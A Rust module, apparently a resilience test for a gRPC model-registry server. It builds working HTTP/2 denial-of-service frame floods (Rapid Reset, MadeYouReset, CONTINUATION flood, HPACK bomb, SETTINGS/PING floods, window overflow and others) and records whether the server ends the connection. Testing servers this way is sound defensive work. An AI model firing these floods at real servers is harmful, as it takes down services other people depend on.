//! Attacks on HTTP/2 itself: frames that cost the sender little and the server, if it is careless, much.

use crate::frames::{self, PREFACE};
use bytes::BytesMut;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;
use tokio::time::timeout;

/// How long a server may take to say what it makes of it.
const PATIENCE: Duration = Duration::from_secs(30);
const GET: &str = "/modelregistry.v1.ModelService/GetModel";
/// What the last ping holds: its answer says that all before it was read.
const LAST: &[u8; 8] = b"the last";
/// How much is written at once.
const CHUNK: usize = 64 * 1024;

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const GOAWAY: u8 = 7;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const ACK: u8 = 1;
const END_HEADERS: u8 = 4;

/// What is done to a server.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Streams that are begun and given up at once.
    RapidReset,
    /// Streams that the server is made to give up.
    MadeYouReset,
    /// Headers that never end.
    Continuation,
    /// Headers of 200 KB.
    OversizeHeaders,
    /// A header that is remembered, and referred to again and again.
    HpackBomb,
    /// Messages that are announced as 4 GiB.
    Giant,
    /// Settings that are to be acknowledged.
    Settings,
    /// Pings that are to be answered.
    Ping,
    /// Data that is none.
    EmptyData,
    /// Windows that grow by nothing.
    WindowOfNothing,
    /// Windows that grow beyond what there is.
    WindowOverflow,
    /// Data of a stream that is at its end.
    DataAfterEnd,
    /// Streams that depend on themselves.
    Priority,
}

/// What the server made of it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Made {
    /// It ended the connection.
    Ended {
        /// With what it said last, if it did.
        code: Option<u32>,
    },
    /// It goes on with the connection.
    Open {
        /// How many streams it has refused.
        refused: usize,
    },
}

impl Attack {
    /// All of them.
    pub const ALL: [Self; 13] = [
        Self::RapidReset,
        Self::MadeYouReset,
        Self::Continuation,
        Self::OversizeHeaders,
        Self::HpackBomb,
        Self::Giant,
        Self::Settings,
        Self::Ping,
        Self::EmptyData,
        Self::WindowOfNothing,
        Self::WindowOverflow,
        Self::DataAfterEnd,
        Self::Priority,
    ];

    /// Does it on a connection of its own, with the key of an admin: so many times, or until the connection is closed.
    ///
    /// # Panics
    /// If the server neither ends the connection nor answers on it.
    pub async fn run(self, address: SocketAddr, times: u32) -> Made {
        let (read, mut write) = TcpStream::connect(address).await.expect("a connection").into_split();
        let reading = tokio::spawn(listen(read));
        let mut bytes = BytesMut::from(PREFACE.as_slice());
        frames::put(&mut bytes, SETTINGS, 0, 0, &[]);
        self.prelude(&mut bytes);
        for number in 0..times {
            self.put(&mut bytes, number * 2 + 3);
            if bytes.len() >= CHUNK && write.write_all(&bytes.split()).await.is_err() {
                break; // it is closed, and `reading` knows why
            }
        }
        frames::put(&mut bytes, PING, 0, 0, LAST);
        let _ = write.write_all(&bytes).await;
        timeout(PATIENCE, reading).await.expect("a server that says something").expect("a reader")
    }

    /// What is sent once.
    fn prelude(self, bytes: &mut BytesMut) {
        let usual = frames::usual(GET.as_bytes());
        match self {
            Self::Continuation => frames::put(bytes, HEADERS, 0, 1, &usual),
            Self::EmptyData => frames::put(bytes, HEADERS, END_HEADERS, 1, &usual),
            Self::HpackBomb => frames::put(bytes, HEADERS, END_HEADERS | END_STREAM, 1, &[usual, remembered()].concat()),
            _ => {}
        }
    }

    /// What is sent again and again, on a stream of its own if it needs one.
    fn put(self, bytes: &mut BytesMut, stream: u32) {
        let usual = frames::usual(GET.as_bytes());
        let begin = |bytes: &mut BytesMut, flags| frames::put(bytes, HEADERS, END_HEADERS | flags, stream, &usual);
        match self {
            Self::RapidReset => {
                begin(bytes, 0);
                frames::put(bytes, RST_STREAM, 0, stream, &8_u32.to_be_bytes());
            }
            Self::MadeYouReset => {
                begin(bytes, 0);
                frames::put(bytes, WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes());
            }
            Self::Continuation => frames::put(bytes, CONTINUATION, 0, 1, &frames::literal(b"x-more", &[b'x'; 16_000])),
            Self::OversizeHeaders => {
                frames::put(bytes, HEADERS, END_STREAM, stream, &usual);
                for last in [0, 0, 0, END_HEADERS] {
                    frames::put(bytes, CONTINUATION, last, stream, &frames::literal(b"x-big", &[b'x'; 16_000]));
                }
            }
            Self::HpackBomb => {
                frames::put(bytes, HEADERS, END_HEADERS | END_STREAM, stream, &[usual.clone(), vec![0xbe; 15_000]].concat());
            }
            Self::Giant => {
                begin(bytes, 0);
                frames::put(bytes, DATA, 0, stream, &[0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3]);
            }
            Self::Settings => frames::put(bytes, SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
            Self::Ping => frames::put(bytes, PING, 0, 0, &u64::from(stream).to_be_bytes()),
            Self::EmptyData => frames::put(bytes, DATA, 0, 1, &[]),
            Self::WindowOfNothing => frames::put(bytes, WINDOW_UPDATE, 0, 0, &0_u32.to_be_bytes()),
            Self::WindowOverflow => frames::put(bytes, WINDOW_UPDATE, 0, 0, &0x7fff_ffff_u32.to_be_bytes()),
            Self::DataAfterEnd => {
                begin(bytes, END_STREAM);
                frames::put(bytes, DATA, 0, stream, b"more");
            }
            Self::Priority => {
                begin(bytes, 0);
                frames::put(bytes, PRIORITY, 0, stream, &[stream.to_be_bytes().as_slice(), &[16]].concat());
            }
        }
    }
}

/// A header that the other side is to remember, as large as its memory: the newest, number 62.
fn remembered() -> Vec<u8> {
    let mut literal = frames::literal(b"x-bomb", &[b'x'; 4000]);
    literal[0] = 0x40;
    literal
}

/// Reads until the server has ended the connection, or has read everything.
async fn listen(mut read: OwnedReadHalf) -> Made {
    let (mut code, mut refused) = (None, 0);
    loop {
        let mut head = [0; 9];
        if read.read_exact(&mut head).await.is_err() {
            return Made::Ended { code };
        }
        let [a, b, c, kind, flags, ..] = head;
        let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]).try_into().expect("a usual length")];
        if read.read_exact(&mut payload).await.is_err() {
            return Made::Ended { code };
        }
        match kind {
            RST_STREAM => refused += 1,
            GOAWAY => code = payload.get(4..8).and_then(|code| code.try_into().ok()).map(u32::from_be_bytes),
            PING if flags & ACK != 0 && payload == LAST => return code.map_or(Made::Open { refused }, |_| Made::Ended { code }),
            _ => {}
        }
    }
}
